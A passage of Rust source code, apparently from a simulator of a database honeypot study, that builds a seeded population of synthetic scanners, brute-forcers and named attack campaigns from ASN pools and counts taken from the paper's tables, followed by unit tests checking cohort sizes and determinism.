        let mut pick = rng.gen_range(0.0..total);
        for (asn, country, weight) in &self.entries {
            if pick < *weight {
                let ip = geo
                    .sample_ip(*asn, *country, rng)
                    .unwrap_or_else(|| panic!("AS{asn} has no prefix in {country:?}"));
                return (ip, *asn);
            }
            pick -= weight;
        }
        let (asn, country, _) = self.entries[0];
        (
            geo.sample_ip(asn, country, rng).expect("pool entry valid"),
            asn,
        )
    }
}

/// Which instance groups a low-interaction actor contacts (§5 control
/// group).
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum GroupChoice {
    Both,
    MultiOnly,
    SingleOnly,
}

struct Cohort {
    name: &'static str,
    count: usize,
    pinned: bool, // identity-critical cohorts keep their exact count
    pool: SourcePool,
    retention: Retention,
    visits_per_day: f64,
    behavior: ActorScript,
    targets: CohortTargets,
}

#[derive(Debug, Clone)]
enum CohortTargets {
    /// All four low-interaction DBMS, instance group per §5 mix.
    LowAll,
    /// One low DBMS only.
    LowOne(Dbms),
    /// One medium/high family (all configs).
    Family(Dbms, InteractionLevel),
    /// Specific selectors.
    Exact(Vec<TargetSelector>),
}

/// Build the full actor population.
pub fn build_population(config: &PopulationConfig, geo: &GeoDb) -> Vec<Actor> {
    let mut rng = StdRng::seed_from_u64(config.seed);
    let mut actors = Vec::new();
    let mut next_id: u64 = 1;
    let mut cohort_list = cohorts(config.scale);
    if config.extensions {
        cohort_list.extend(extension_cohorts());
    }
    for cohort in cohort_list {
        let count = if cohort.pinned {
            cohort.count
        } else {
            scale_count(cohort.count, config.scale)
        };
        for _ in 0..count {
            let (src, asn) = cohort.pool.draw(geo, &mut rng);
            let active_days = match cohort.retention {
                // §5: 43% of all clients appear on a single day; short-lived
                // cohorts are heavily single-day
                Retention::Short => {
                    if rng.gen_bool(0.78) {
                        1
                    } else {
                        rng.gen_range(2..=3)
                    }
                }
                Retention::Medium => rng.gen_range(4..=10),
                Retention::Long => rng.gen_range(15..=config.days.max(16)),
                Retention::Fixed(d) => d,
            }
            .min(config.days);
            let first_day = rng.gen_range(0..=config.days.saturating_sub(active_days));
            let targets = resolve_targets(&cohort.targets, &mut rng);
            actors.push(Actor {
                id: next_id,
                src,
                asn,
                cohort: cohort.name,
                first_day,
                active_days,
                visits_per_day: cohort.visits_per_day,
                targets,
                behavior: cohort.behavior.clone(),
            });
            next_id += 1;
        }
    }
    actors
}

/// Round a scaled count, keeping nonzero cohorts alive.
fn scale_count(count: usize, scale: f64) -> usize {
    if count == 0 {
        return 0;
    }
    ((count as f64 * scale).round() as usize).max(1)
}

fn resolve_targets<R: Rng>(targets: &CohortTargets, rng: &mut R) -> Vec<TargetSelector> {
    match targets {
        CohortTargets::Exact(list) => list.clone(),
        CohortTargets::Family(dbms, level) => vec![TargetSelector {
            dbms: *dbms,
            level: *level,
            config: None,
        }],
        CohortTargets::LowOne(dbms) => low_group(rng)
            .into_iter()
            .flat_map(|g| group_selectors(g, &[*dbms]))
            .collect(),
        CohortTargets::LowAll => {
            let all = [Dbms::MySql, Dbms::Postgres, Dbms::Redis, Dbms::Mssql];
            low_group(rng)
                .into_iter()
                .flat_map(|g| group_selectors(g, &all))
                .collect()
        }
    }
}

/// §5 control-group mix: 1,543 both / 1,620 multi-only / 177 single-only
/// out of 3,340 ⇒ probabilities 0.462 / 0.485 / 0.053.
fn low_group<R: Rng>(rng: &mut R) -> Vec<GroupChoice> {
    let x: f64 = rng.gen();
    if x < 0.462 {
        vec![GroupChoice::Both]
    } else if x < 0.462 + 0.485 {
        vec![GroupChoice::MultiOnly]
    } else {
        vec![GroupChoice::SingleOnly]
    }
}

fn group_selectors(group: GroupChoice, dbms: &[Dbms]) -> Vec<TargetSelector> {
    let mut out = Vec::new();
    for &d in dbms {
        match group {
            GroupChoice::Both => {
                out.push(TargetSelector::low_multi(d));
                out.push(TargetSelector::low_single(d));
            }
            GroupChoice::MultiOnly => out.push(TargetSelector::low_multi(d)),
            GroupChoice::SingleOnly => out.push(TargetSelector::low_single(d)),
        }
    }
    out
}

/// Scale a login volume.
fn vol(v: u64, scale: f64) -> u64 {
    ((v as f64 * scale).round() as u64).max(1)
}

/// The cohort table. Volumes inside behaviors are pre-scaled here; counts
/// are scaled by the caller.
fn cohorts(scale: f64) -> Vec<Cohort> {
    use ActorScript as B;
    let mut list: Vec<Cohort> = Vec::new();

    // ---------------------------------------------------------------
    // Low-interaction fleet: scanners (§5, Tables 5–7)
    // ---------------------------------------------------------------
    // Institutional scanners: 1,468 sources, persistent, no logins.
    list.push(Cohort {
        name: "institutional-scanners",
        count: 1468,
        pinned: false,
        pool: SourcePool::of(&[
            (398324, None, 93.0),  // Censys
            (211298, None, 252.0), // Constantine Cybersecurity
            (398722, None, 400.0), // Shodan-style
            (63113, None, 300.0),  // ShadowServer-style
            (202623, None, 250.0), // Rapid7-style
            (213412, None, 60.0),  // ONYPHE
            (134698, None, 70.0),  // ZoomEye
            (211680, None, 43.0),  // BinaryEdge
        ]),
        retention: Retention::Long,
        visits_per_day: 2.0,
        behavior: B::Scan,
        targets: CohortTargets::LowAll,
    });
    // Hurricane transit scanners: 643 sources, zero logins (Table 6 row 1).
    list.push(Cohort {
        name: "transit-scanners",
        count: 643,
        pinned: false,
        pool: SourcePool::single(6939, None),
        retention: Retention::Short,
        visits_per_day: 1.5,
        behavior: B::Scan,
        targets: CohortTargets::LowAll,
    });
    // Cloud scan-only populations (Table 6 IP counts minus their brute slices).
    for (name, asn, count, country) in [
        ("gcp-scanners", 396982u32, 500usize, Some("US")),
        ("digitalocean-scanners", 14061, 370, None),
        ("amazon-scanners", 14618, 154, Some("US")),
        ("ucloud-scanners", 135377, 120, None),
        ("akamai-scanners", 63949, 71, None),
        ("unicom-scanners", 4837, 76, Some("CN")),
        ("chinanet-scanners", 4134, 60, Some("CN")),
        ("misc-telecom-scanners", 7922, 120, Some("US")),
        ("misc-eu-scanners", 16276, 100, None),
    ] {
        list.push(Cohort {
            name,
            count,
            pinned: false,
            pool: SourcePool::single(asn, country),
            retention: Retention::Short,
            visits_per_day: 1.2,
            behavior: B::Scan,
            targets: CohortTargets::LowAll,
        });
    }

    // ---------------------------------------------------------------
    // Low-interaction fleet: brute-forcers (§5, Table 5, Table 12)
    // ---------------------------------------------------------------
    // The four Russian heavy hitters: AS208091, ≈4.15M MSSQL attempts each,
    // active 16–19 days. Identity-critical: count stays 4 at any scale.
    list.push(Cohort {
        name: "ru-heavy-mssql-brute",
        count: 4,
        pinned: true,
        pool: SourcePool::single(208091, Some("RU")),
        retention: Retention::Fixed(17),
        visits_per_day: 6.0,
        behavior: B::MssqlBruteforcer {
            attempts_total: vol(4_157_370, scale),
        },
        targets: CohortTargets::Exact(vec![
            TargetSelector::low_multi(Dbms::Mssql),
            TargetSelector::low_single(Dbms::Mssql),
        ]),
    });
    // The remaining low-volume Russian sources (§5: "at most a few hundred
    // login attempts over 1 to 3 days").
    list.push(Cohort {
        name: "ru-light-mssql-brute",
        count: 5,
        pinned: true,
        pool: SourcePool::of(&[(12389, Some("RU"), 3.0), (208091, Some("RU"), 2.0)]),
        retention: Retention::Short,
        visits_per_day: 1.0,
        behavior: B::MssqlBruteforcer {
            attempts_total: vol(300, scale),
        },
        targets: CohortTargets::LowOne(Dbms::Mssql),
    });
    // Per-country MSSQL brute cohorts (Table 5).
    for (name, count, pool, total) in [
        (
            "cn-chinanet-mssql-brute",
            40usize,
            SourcePool::single(4134, Some("CN")),
            517_234u64,
        ),
        (
            "cn-misc-mssql-brute",
            12,
            SourcePool::of(&[
                (45102, Some("CN"), 1.0),
                (132203, Some("CN"), 1.0),
                (134121, Some("CN"), 2.0),
            ]),
            361_419,
        ),
        (
            "ee-mssql-brute",
            2,
            SourcePool::single(3249, Some("EE")),
            160_642,
        ),
        (
            "kr-mssql-brute",
            5,
            SourcePool::single(4766, Some("KR")),
            76_005,
        ),
        (
            "ua-mssql-brute",
            1,
            SourcePool::single(15895, Some("UA")),
            96_999,
        ),
        (
            "ir-mssql-brute",
            1,
            SourcePool::single(58224, Some("IR")),
            74_856,
        ),
        (
            "ge-mssql-brute",
            1,
            SourcePool::single(16010, Some("GE")),
            62_850,
        ),
        (
            "gr-mssql-brute",
            1,
            SourcePool::single(6799, Some("GR")),
            13_040,
        ),
        (
            "in-mssql-brute",
            6,
            SourcePool::single(9829, Some("IN")),
            12_472,
        ),
        (
            "us-mssql-brute",
            80,
            SourcePool::of(&[
                (396982, Some("US"), 2.0),
                (14061, Some("US"), 2.0),
                (9009, Some("US"), 1.0),
                (7922, Some("US"), 1.0),
            ]),
            54_543,
        ),
        (
            "longtail-mssql-brute",
            230,
            SourcePool::of(&[
                (16276, None, 2.0),
                (24940, None, 2.0),
                (9009, None, 2.0),
                (3320, Some("DE"), 1.0),
                (3215, Some("FR"), 1.0),
                (8866, Some("BG"), 1.0),
                (1136, Some("NL"), 1.0),
                (7473, Some("SG"), 1.0),
                (7713, Some("ID"), 1.0),
                (266842, Some("BR"), 1.0),
            ]),
            14_265,
        ),
    ] {
        let per_actor = (total as f64 / count as f64).round() as u64;
        let pinned = count <= 6;
        // pinned cohorts keep their exact actor count, so the per-actor
        // budget carries the scale; scaled cohorts shrink in actors instead
        // (scaling the budget too would scale the total twice)
        let attempts_total = if pinned {
            vol(per_actor, scale)
        } else {
            per_actor
        };
        list.push(Cohort {
            name,
            count,
            pinned,
            pool,
            retention: Retention::Medium,
            visits_per_day: 2.0,
            behavior: B::MssqlBruteforcer { attempts_total },
            targets: CohortTargets::LowOne(Dbms::Mssql),
        });
    }
    // MySQL brute cohorts (cloud-hosted, Table 6 login split).
    for (name, count, asn, country, total) in [
        ("gcp-mysql-brute", 60usize, 396982u32, Some("US"), 5_101u64),
        ("do-mysql-brute", 22, 14061, None, 1_028),
        ("ucloud-mysql-brute", 22, 135377, None, 643),
        ("akamai-mysql-brute", 20, 63949, None, 1_270),
        ("unicom-mysql-brute", 12, 4837, Some("CN"), 2_711),
        ("kr-mysql-brute", 1, 4766, Some("KR"), 21_522),
        ("us-mysql-brute", 21, 7922, Some("US"), 12_623),
        ("longtail-mysql-brute", 52, 24940, None, 49_000),
    ] {
        let per_actor = (total as f64 / count as f64).round() as u64;
        let pinned = count <= 2;
        let attempts_total = if pinned {
            vol(per_actor, scale)
        } else {
            per_actor
        };
        list.push(Cohort {
            name,
            count,
            pinned,
            pool: SourcePool::single(asn, country),
            retention: Retention::Medium,
            visits_per_day: 1.5,
            behavior: B::MysqlBruteforcer { attempts_total },
            targets: CohortTargets::LowOne(Dbms::MySql),
        });
    }
    // Minority AS types that attempted logins (Table 7: IP Service 35,
    // ICT 25, ISP 1, Security 1).
    for (name, count, asn, dbms) in [
        ("ipservice-mssql-brute", 35usize, 202425u32, Dbms::Mssql),
        ("ict-mysql-brute", 25, 13335, Dbms::MySql),
        ("isp-mssql-brute", 1, 5089, Dbms::Mssql),
        ("security-mssql-brute", 1, 211298, Dbms::Mssql),
    ] {
        list.push(Cohort {
            name,
            count,
            pinned: count <= 2,
            pool: SourcePool::single(asn, None),
            retention: Retention::Short,
            visits_per_day: 1.0,
            behavior: match dbms {
                Dbms::MySql => B::MysqlBruteforcer { attempts_total: 40 },
                _ => B::MssqlBruteforcer { attempts_total: 60 },
            },
            targets: CohortTargets::LowOne(dbms),
        });
    }
    // PostgreSQL single-combination actors (§5: 13 login attempts, US).
    list.push(Cohort {
        name: "pg-single-combo",
        count: 5,
        pinned: true,
        pool: SourcePool::of(&[(396982, Some("US"), 1.0), (14061, Some("US"), 1.0)]),
        retention: Retention::Short,
        visits_per_day: 1.0,
        behavior: B::PgSingleCombo {
            combo: 0,
            repeats: 2,
        },
        targets: CohortTargets::LowOne(Dbms::Postgres),
    });

    // ---------------------------------------------------------------
    // Medium/high fleet (Tables 8 and 9, §6)
    // ---------------------------------------------------------------
    // Scanners per family: (count, institutional count).
    for (name, dbms, level, total, institutional) in [
        (
            "pg-med-scanners",
            Dbms::Postgres,
            InteractionLevel::Medium,
            1140usize,
            909usize,
        ),
        (
            "elastic-med-scanners",
            Dbms::Elastic,
            InteractionLevel::Medium,
            608,
            456,
        ),
        (
            "mongo-high-scanners",
            Dbms::MongoDb,
            InteractionLevel::High,
            706,
            415,
        ),
        (
            "redis-med-scanners",
            Dbms::Redis,
            InteractionLevel::Medium,
            676,
            379,
        ),
    ] {
        list.push(Cohort {
            name,
            count: institutional,
            pinned: false,
            pool: SourcePool::of(&[
                (398324, None, 2.0),
                (398722, None, 4.0),
                (63113, None, 3.0),
                (202623, None, 2.0),
                (211298, None, 2.0),
                (213412, None, 1.0),
                (134698, None, 1.0),
            ]),
            // scan fleets rotate addresses: each IP is short-lived even
            // though the organization scans continuously (Figure 5)
            retention: Retention::Short,
            visits_per_day: 1.0,
            behavior: B::Scan,
            targets: CohortTargets::Family(dbms, level),
        });
        list.push(Cohort {
            name: Box::leak(format!("{name}-other").into_boxed_str()),
            count: total - institutional,
            pinned: false,
            pool: SourcePool::of(&[
                (6939, None, 3.0),
                (14618, None, 2.0),
                (7922, None, 1.0),
                (4134, None, 1.0),
                (39134, None, 1.0),
            ]),
            retention: Retention::Short,
            visits_per_day: 1.0,
            behavior: B::Scan,
            targets: CohortTargets::Family(dbms, level),
        });
    }
    // Scouts (Table 8 scouting minus the Table 9 sub-campaigns).
    for (name, count, behavior, dbms, level, pool) in [
        (
            "pg-med-scouts",
            345usize,
            B::PgScout,
            Dbms::Postgres,
            InteractionLevel::Medium,
            SourcePool::of(&[
                (396982, None, 2.0),
                (16276, Some("FR"), 2.0),
                (24940, Some("DE"), 2.0),
                (63113, None, 2.0), // institutional scouting (§6)
                (4134, Some("CN"), 1.0),
            ]),
        ),
        (
            "elastic-med-scouts",
            610,
            B::ElasticScout { deep: true },
            Dbms::Elastic,
            InteractionLevel::Medium,
            SourcePool::of(&[
                (398722, None, 3.0), // institutional deep scouting
                (398324, None, 2.0),
                (14061, None, 2.0),
                (134698, Some("CN"), 1.0),
            ]),
        ),
        (
            "mongo-high-scouts",
            403,
            B::MongoScout { deep: true },
            Dbms::MongoDb,
            InteractionLevel::High,
            SourcePool::of(&[
                (398722, None, 2.0),
                (63113, None, 2.0),
                (14061, None, 2.0),
                (9009, None, 1.0),
            ]),
        ),
    ] {
        list.push(Cohort {
            name,
            count,
            pinned: false,
            pool,
            retention: Retention::Medium,
            visits_per_day: 0.8,
            behavior,
            targets: CohortTargets::Family(dbms, level),
        });
    }
    // Redis scouts visit both configurations; the TYPE-walk of §6 only
    // manifests on the fake-data instances.
    list.push(Cohort {
        name: "redis-med-scouts",
        count: 245,
        pinned: false,
        pool: SourcePool::of(&[
            (4134, Some("CN"), 2.0),
            (14061, None, 2.0),
            (398324, None, 1.0),
            (7473, Some("SG"), 1.0),
        ]),
        retention: Retention::Medium,
        visits_per_day: 0.8,
        behavior: B::RedisScout { type_walk: true },
        targets: CohortTargets::Exact(vec![
            TargetSelector::medium(Dbms::Redis, Some(ConfigVariant::Default)),
            TargetSelector::medium(Dbms::Redis, Some(ConfigVariant::FakeData)),
        ]),
    });
    // Fake-data harvesters: the adversaries §4.2's measurement objective is
    // after — they read the planted entries and reuse the bait passwords as
    // credentials (detected by `decoy-analysis::honeytokens`).
    list.push(Cohort {
        name: "fake-data-harvesters",
        count: 6,
        pinned: true,
        pool: SourcePool::of(&[(4134, Some("CN"), 1.0), (14061, None, 1.0)]),
        retention: Retention::Medium,
        visits_per_day: 0.6,
        behavior: B::Campaign(SessionScript::HarvestAndReuse),
        targets: CohortTargets::Exact(vec![TargetSelector::medium(
            Dbms::Redis,
            Some(ConfigVariant::FakeData),
        )]),
    });
    // Cross-family scanners: the Figure 4 intersections ("certain scanners
    // probing multiple DBMS platforms").
    list.push(Cohort {
        name: "cross-family-scanners",
        count: 180,
        pinned: false,
        pool: SourcePool::of(&[
            (398722, None, 2.0),
            (398324, None, 1.0),
            (6939, None, 2.0),
            (14618, None, 1.0),
        ]),
        retention: Retention::Short,
        visits_per_day: 1.0,
        behavior: B::Scan,
        targets: CohortTargets::Exact(vec![
            TargetSelector::medium(Dbms::Postgres, None),
            TargetSelector::medium(Dbms::Elastic, None),
            TargetSelector::medium(Dbms::Redis, None),
            TargetSelector::high_mongo(),
        ]),
    });
    // RDP scanners that sweep Redis AND PostgreSQL (the cross-DBMS RDP
    // pattern §6 calls out explicitly).
    list.push(Cohort {
        name: "rdp-cross-scan",
        count: 10,
        pinned: false,
        pool: SourcePool::of(&[(7922, Some("US"), 1.0), (3320, Some("DE"), 1.0)]),
        retention: Retention::Short,
        visits_per_day: 0.8,
        behavior: B::Campaign(SessionScript::RdpProbe),
        targets: CohortTargets::Exact(vec![
            TargetSelector::medium(Dbms::Redis, None),
            TargetSelector::medium(Dbms::Postgres, None),
        ]),
    });
    // Medium-PG brute (84 IPs, 15 clusters; §6 config asymmetry).
    list.push(Cohort {
        name: "pg-med-brute",
        count: 84,
        pinned: false,
        pool: SourcePool::of(&[
            (16276, Some("FR"), 2.0),
            (24940, Some("DE"), 2.0),
            (396982, Some("US"), 1.0),
            (12389, Some("RU"), 1.0),
        ]),
        retention: Retention::Medium,
        visits_per_day: 1.0,
        behavior: B::PgMedBrute { burst: 12 },
        targets: CohortTargets::Exact(vec![
            TargetSelector::medium(Dbms::Postgres, Some(ConfigVariant::Default)),
            TargetSelector::medium(Dbms::Postgres, Some(ConfigVariant::LoginDisabled)),
        ]),
    });
    // Redis AUTH brute (5 IPs, 1 cluster).
    list.push(Cohort {
        name: "redis-med-brute",
        count: 5,
        pinned: true,
        pool: SourcePool::single(4134, Some("CN")),
        retention: Retention::Short,
        visits_per_day: 1.0,
        behavior: B::RedisBrute,
        targets: CohortTargets::Family(Dbms::Redis, InteractionLevel::Medium),
    });

    // ---------------------------------------------------------------
    // Campaigns (Table 9, Listings 1–14); Table 10 country mixes.
    // ---------------------------------------------------------------
    let campaign = |name: &'static str,
                    count: usize,
                    pinned: bool,
                    pool: SourcePool,
                    retention: Retention,
                    script: SessionScript,
                    targets: CohortTargets| Cohort {
        name,
        count,
        pinned,
        pool,
        retention,
        visits_per_day: 0.7,
        behavior: B::Campaign(script),
        targets,
    };
    // P2PInfect: 35 IPs, Redis; exploiters are persistent (Figure 5).
    // Keyspace-writing campaigns (P2PInfect FLUSHes; ABCbot SETs cron
    // entries) are routed to the default-config instances: the direct-mode
    // emitter is stateless, and keeping the fake-data keyspaces unmutated
    // preserves network≡direct equivalence for the harvest cohort.
    list.push(campaign(
        "p2pinfect",
        35,
        false,
        SourcePool::of(&[
            (4134, Some("CN"), 3.0),
            (4837, Some("CN"), 1.0),
            (7473, Some("SG"), 1.0),
            (136907, None, 1.0),
        ]),
        Retention::Long,
        SessionScript::P2pInfect,
        CohortTargets::Exact(vec![TargetSelector::medium(
            Dbms::Redis,
            Some(ConfigVariant::Default),
        )]),
    ));
    list.push(campaign(
        "abcbot",
        1,
        true,
        SourcePool::single(4134, Some("CN")),
        Retention::Medium,
        SessionScript::AbcBot,
        CohortTargets::Exact(vec![TargetSelector::medium(
            Dbms::Redis,
            Some(ConfigVariant::Default),
        )]),
    ));
    list.push(campaign(
        "redis-cve-2022-0543",
        1,
        true,
        SourcePool::single(14061, Some("US")),
        Retention::Short,
        SessionScript::RedisCve20220543,
        CohortTargets::Family(Dbms::Redis, InteractionLevel::Medium),
    ));
    // Kinsing: 196 IPs, 4 clusters; Table 10's PG country mix (FR/DE/US/RU/CN heavy).
    list.push(campaign(
        "kinsing",
        196,
        false,
        // hosting-heavy (Table 11: exploitation concentrates in hosting
        // ASes), with the CN share on telecom (infected machines, §6.2)
        SourcePool::of(&[
            (16276, Some("FR"), 26.0),
            (3215, Some("FR"), 2.0),
            (24940, Some("DE"), 22.0),
            (3320, Some("DE"), 4.0),
            (396982, Some("US"), 22.0),
            (14061, Some("US"), 14.0),
            (201229, Some("RU"), 12.0),
            (4134, Some("CN"), 14.0),
            (4837, Some("CN"), 6.0),
            (9009, Some("GB"), 10.0),
            (201229, Some("NL"), 3.0),
            (1136, Some("NL"), 2.0),
            (7713, Some("ID"), 5.0),
            (45102, Some("SG"), 2.0),
            (7473, Some("SG"), 2.0),
            (24940, Some("FI"), 6.0),
        ]),
        Retention::Long,
        SessionScript::Kinsing,
        // Kinsing verifies its login before injecting; bots that land on the
        // restricted config move on, so observed Kinsing activity lives on
        // the open instances.
        CohortTargets::Exact(vec![TargetSelector::medium(
            Dbms::Postgres,
            Some(ConfigVariant::Default),
        )]),
    ));
    // Privilege manipulation: 25 IPs, 3 clusters.
    list.push(campaign(
        "pg-privilege-manipulation",
        25,
        false,
        SourcePool::of(&[
            (396982, Some("US"), 2.0),
            (16276, Some("FR"), 1.0),
            (24940, Some("DE"), 1.0),
        ]),
        Retention::Medium,
        SessionScript::PgPrivilege,
        CohortTargets::Exact(vec![TargetSelector::medium(
            Dbms::Postgres,
            Some(ConfigVariant::Default),
        )]),
    ));
    // Lucifer: 2 IPs on Elasticsearch (CN telecom per Table 10).
    list.push(campaign(
        "lucifer",
        2,
        true,
        SourcePool::single(4134, Some("CN")),
        Retention::Medium,
        SessionScript::Lucifer,
        CohortTargets::Family(Dbms::Elastic, InteractionLevel::Medium),
    ));
    // Mongo ransom: 62 IPs, two groups (Table 10: Bulgaria-heavy).
    list.push(campaign(
        "mongo-ransom-group-a",
        29,
        false,
        SourcePool::of(&[(34224, Some("BG"), 3.0), (44901, Some("BG"), 1.0)]),
        Retention::Long,
        SessionScript::MongoRansom { group: 0 },
        CohortTargets::Exact(vec![TargetSelector::high_mongo()]),
    ));
    list.push(campaign(
        "mongo-ransom-group-b",
        33,
        false,
        SourcePool::of(&[
            (396982, Some("US"), 8.0),
            (14061, Some("US"), 8.0),
            (1136, Some("NL"), 3.0),
            (2856, Some("GB"), 3.0),
            (24940, Some("DE"), 2.0),
            (7473, Some("SG"), 1.0),
            (9009, None, 3.0),
        ]),
        Retention::Long,
        SessionScript::MongoRansom { group: 1 },
        CohortTargets::Exact(vec![TargetSelector::high_mongo()]),
    ));
    // Foreign-service scans (Table 9 top rows).
    list.push(campaign(
        "rdp-scan-pg",
        164,
        false,
        SourcePool::of(&[
            (3320, Some("DE"), 2.0),
            (3215, Some("FR"), 2.0),
            (2856, Some("GB"), 1.0),
            (7922, Some("US"), 2.0),
            (12389, Some("RU"), 1.0),
        ]),
        Retention::Short,
        SessionScript::RdpProbe,
        CohortTargets::Family(Dbms::Postgres, InteractionLevel::Medium),
    ));
    list.push(campaign(
        "rdp-scan-redis",
        14,
        false,
        SourcePool::of(&[(7922, Some("US"), 1.0), (4134, Some("CN"), 1.0)]),
        Retention::Short,
        SessionScript::RdpProbe,
        CohortTargets::Family(Dbms::Redis, InteractionLevel::Medium),
    ));
    list.push(campaign(
        "jdwp-scan-redis",
        2,
        true,
        SourcePool::single(13335, Some("US")),
        Retention::Short,
        SessionScript::JdwpProbe,
        CohortTargets::Family(Dbms::Redis, InteractionLevel::Medium),
    ));
    list.push(campaign(
        "vmware-recon",
        15,
        false,
        SourcePool::of(&[(14618, Some("US"), 2.0), (16276, Some("FR"), 1.0)]),
        Retention::Short,
        SessionScript::VmwareRecon,
        CohortTargets::Family(Dbms::Elastic, InteractionLevel::Medium),
    ));
    list.push(campaign(
        "craftcms-probe",
        2,
        true,
        SourcePool::single(14061, Some("DE")),
        Retention::Short,
        SessionScript::CraftCms,
        CohortTargets::Family(Dbms::Elastic, InteractionLevel::Medium),
    ));
    list
}

/// Cohorts for the §7 extension honeypots (only with
/// [`PopulationConfig::extensions`]): scanners/scouts/ransom against
/// CouchDB and SQL-speaking visitors against the medium MySQL honeypot.
fn extension_cohorts() -> Vec<Cohort> {
    use ActorScript as B;
    vec![
        Cohort {
            name: "couch-scanners",
            count: 120,
            pinned: false,
            pool: SourcePool::of(&[(398722, None, 2.0), (6939, None, 2.0), (14618, None, 1.0)]),
            retention: Retention::Short,
            visits_per_day: 1.0,
            behavior: B::Scan,
            targets: CohortTargets::Family(Dbms::CouchDb, InteractionLevel::Medium),
        },
        Cohort {
            name: "couch-scouts",
            count: 40,
            pinned: false,
            pool: SourcePool::of(&[(14061, None, 2.0), (4134, Some("CN"), 1.0)]),
            retention: Retention::Medium,
            visits_per_day: 0.8,
            behavior: B::Campaign(SessionScript::CouchScout),
            targets: CohortTargets::Family(Dbms::CouchDb, InteractionLevel::Medium),
        },
        Cohort {
            name: "couch-ransom",
            count: 8,
            pinned: true,
            pool: SourcePool::of(&[(34224, Some("BG"), 1.0), (9009, None, 1.0)]),
            retention: Retention::Long,
            visits_per_day: 0.6,
            behavior: B::Campaign(SessionScript::CouchRansom),
            targets: CohortTargets::Family(Dbms::CouchDb, InteractionLevel::Medium),
        },
        Cohort {
            name: "mysql-med-visitors",
            count: 60,
            pinned: false,
            pool: SourcePool::of(&[(396982, Some("US"), 2.0), (4837, Some("CN"), 1.0)]),
            retention: Retention::Medium,
            visits_per_day: 0.8,
            behavior: B::Campaign(SessionScript::MysqlScout),
            targets: CohortTargets::Exact(vec![TargetSelector::medium(
                Dbms::MySql,
                Some(ConfigVariant::Default),
            )]),
        },
        // The §7 arms-race adversary: anti-honeypot scanners running the
        // multistage fingerprint battery across every protocol family.
        Cohort {
            name: "fingerprint-scanners",
            count: 12,
            pinned: false,
            pool: SourcePool::of(&[(398722, None, 2.0), (14061, None, 1.0)]),
            retention: Retention::Short,
            visits_per_day: 0.5,
            behavior: B::Fingerprinter,
            targets: CohortTargets::Exact(vec![
                TargetSelector::medium(Dbms::MySql, None),
                TargetSelector::medium(Dbms::Postgres, None),
                TargetSelector::medium(Dbms::Redis, None),
                TargetSelector::medium(Dbms::Elastic, None),
                TargetSelector::medium(Dbms::CouchDb, None),
                TargetSelector::high_mongo(),
            ]),
        },
    ]
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::collections::{HashMap, HashSet};

    #[test]
    fn extensions_are_opt_in() {
        let geo = GeoDb::builtin();
        let plain = build_population(&PopulationConfig::scaled(9, 0.05), &geo);
        assert!(!plain.iter().any(|a| a.cohort.starts_with("couch")));
        let extended = build_population(&PopulationConfig::scaled(9, 0.05).with_extensions(), &geo);
        assert!(extended.iter().any(|a| a.cohort == "couch-scanners"));
        assert!(extended.iter().any(|a| a.cohort == "couch-ransom"));
        assert!(extended.iter().any(|a| a.cohort == "mysql-med-visitors"));
        assert!(extended.iter().any(|a| a.cohort == "fingerprint-scanners"));
        assert!(extended.len() > plain.len());
    }

    #[test]
    fn population_is_deterministic() {
        let geo = GeoDb::builtin();
        let config = PopulationConfig::scaled(5, 0.05);
        let a = build_population(&config, &geo);
        let b = build_population(&config, &geo);
        assert_eq!(a, b);
        let c = build_population(&PopulationConfig::scaled(6, 0.05), &geo);
        assert_ne!(a, c);
    }

    #[test]
    fn pinned_cohorts_survive_scaling() {
        let geo = GeoDb::builtin();
        let pop = build_population(&PopulationConfig::scaled(1, 0.01), &geo);
        let heavies: Vec<_> = pop
            .iter()
            .filter(|a| a.cohort == "ru-heavy-mssql-brute")
            .collect();
        assert_eq!(heavies.len(), 4, "the 4 Russian heavy hitters are pinned");
        for h in &heavies {
            assert_eq!(h.asn, 208091);
            assert_eq!(h.active_days, 17);
            let ActorScript::MssqlBruteforcer { attempts_total } = h.behavior else {
                panic!("heavies brute MSSQL");
            };
            // 4.157M × 0.01
            assert!(
                (41000..=42100).contains(&attempts_total),
                "{attempts_total}"
            );
        }
    }

    #[test]
    fn paper_scale_population_size_is_plausible() {
        let geo = GeoDb::builtin();
        let pop = build_population(&PopulationConfig::paper(1), &geo);
        // low fleet ≈ 3,340 + medium/high ≈ 5,405 minus overlaps; the
        // builder creates ~ 3,400 low + ~ 3,700 med/high actors
        assert!(pop.len() > 6000, "{}", pop.len());
        assert!(pop.len() < 10_500, "{}", pop.len());
        // unique sources dominate (collisions within /16 pools are rare)
        let ips: HashSet<_> = pop.iter().map(|a| a.src).collect();
        assert!(ips.len() as f64 > pop.len() as f64 * 0.95);
    }

    #[test]
    fn campaign_sizes_match_table9_at_full_scale() {
        let geo = GeoDb::builtin();
        let pop = build_population(&PopulationConfig::paper(2), &geo);
        let mut by_cohort: HashMap<&str, usize> = HashMap::new();
        for a in &pop {
            *by_cohort.entry(a.cohort).or_insert(0) += 1;
        }
        assert_eq!(by_cohort["p2pinfect"], 35);
        assert_eq!(by_cohort["abcbot"], 1);
        assert_eq!(by_cohort["kinsing"], 196);
        assert_eq!(by_cohort["pg-privilege-manipulation"], 25);
        assert_eq!(by_cohort["lucifer"], 2);
        assert_eq!(
            by_cohort["mongo-ransom-group-a"] + by_cohort["mongo-ransom-group-b"],
            62
        );
        assert_eq!(by_cohort["rdp-scan-pg"], 164);
        assert_eq!(by_cohort["jdwp-scan-redis"], 2);
        assert_eq!(by_cohort["vmware-recon"], 15);
        assert_eq!(by_cohort["craftcms-probe"], 2);
        assert_eq!(by_cohort["redis-med-brute"], 5);
        assert_eq!(by_cohort["pg-med-brute"], 84);
    }

    #[test]
    fn actors_stay_within_the_window() {
        let geo = GeoDb::builtin();
        let pop = build_population(&PopulationConfig::scaled(3, 0.1), &geo);
        for a in &pop {
            assert!(a.active_days >= 1);
            assert!(a.first_day + a.active_days <= 20, "{a:?}");
            assert!(!a.targets.is_empty());
        }
    }

    #[test]
    fn country_mix_is_us_heavy_for_low_scanners() {
        let geo = GeoDb::builtin();
        let pop = build_population(&PopulationConfig::paper(4), &geo);
        let mut us = 0usize;
        let mut total = 0usize;
        for a in &pop {
            // low-interaction cohorts only
            if !a.targets.iter().any(|t| t.level == InteractionLevel::Low) {
                continue;
            }
            total += 1;
            let meta = geo.lookup(std::net::IpAddr::V4(a.src)).unwrap();
            if meta.country == "US" {
                us += 1;
            }
        }
        let share = us as f64 / total as f64;
        assert!(
